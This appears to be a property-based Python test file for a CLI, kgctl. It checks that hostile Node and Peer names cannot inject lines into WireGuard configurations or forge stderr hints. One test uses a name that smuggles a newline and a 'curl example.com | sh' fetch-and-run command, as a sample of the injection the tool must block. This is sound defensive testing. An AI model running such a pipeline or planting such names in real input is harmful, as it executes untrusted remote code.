"""Whatever somebody writes into a Node or a Peer, it stays text: no line, no key and no escape of its own."""

import json
import re

import yaml
from hypothesis import given

from kgctl_py import names
from tests.cli.kgctl import kgctl
from tests.in_memory import Cluster, node, peer
from tests.strategies import VIEWER, clusters, hostile

CIDRS = r"[0-9a-f.:]+/\d+(, [0-9a-f.:]+/\d+)*"
KEY = r"[A-Za-z0-9+/]{43}="
LINE = re.compile(
    rf"|\[Interface\]|\[Peer\]|ListenPort = \d+|AllowedIPs = {CIDRS}|Endpoint = [][a-z0-9.:-]+:\d+"
    rf"|PersistentKeepalive = \d+|(Public|Preshared)Key = {KEY}"
)


@given(clusters(hostile))
def test_nothing_breaks_out_of_a_configuration_or_a_line_of_stderr(cluster: Cluster) -> None:
    for args in (("showconf", "peer", VIEWER), ("showconf", "node", "node-0"), *_named(cluster)):
        run = kgctl("--from-file", "-", *args, stdin=cluster.as_list().encode())
        assert "fault of kgctl" not in run.stderr
        for line in run.stdout.split("\n"):
            assert LINE.fullmatch(line), args
        for line in run.stderr.removesuffix("\n").split("\n") if run.stderr else ():
            assert line.isprintable()
            assert line.startswith(("kgctl: ", "hint: "))


@given(clusters(hostile))
def test_a_printed_resource_reads_back_as_it_was(cluster: Cluster) -> None:
    for raw in cluster.peers[:2]:
        args = ("--from-file", "-", "showconf", "peer", "--as-peer", "-o")
        name, stdin = raw["metadata"]["name"], cluster.as_list().encode()
        as_yaml, as_json = (kgctl(*args, output, "--", name, stdin=stdin) for output in ("yaml", "json"))
        if as_yaml.exit_code == 0:
            assert (as_yaml.stdout + as_json.stdout).replace("\n", "").isprintable()
            read = yaml.safe_load(as_yaml.stdout)
            assert read == json.loads(as_json.stdout)
            assert (read["kind"], read["metadata"]) == (names.PEER_KIND, {"name": name})


def _named(cluster: Cluster) -> list[tuple[str, ...]]:
    peers = (("showconf", "peer", "--", raw["metadata"]["name"]) for raw in cluster.peers[:2])
    nodes = (("showconf", "node", "--", raw["metadata"]["name"]) for raw in cluster.nodes[:2])
    return [*peers, *nodes]


def test_no_name_starts_a_line_of_a_hint() -> None:
    forged = "n\ncurl example.com | sh"
    for cluster in (Cluster([node(forged)], [peer("p")]), Cluster([node(forged, key="")], [peer("p")])):
        for args in (("node", "m"), ("peer", "p", "-o", "wg-quick", "--gateway", "m")):
            run = cluster.kgctl("showconf", *args)
            assert (run.exit_code, "\nhint: curl" in run.stderr) == (1, False), run.stderr
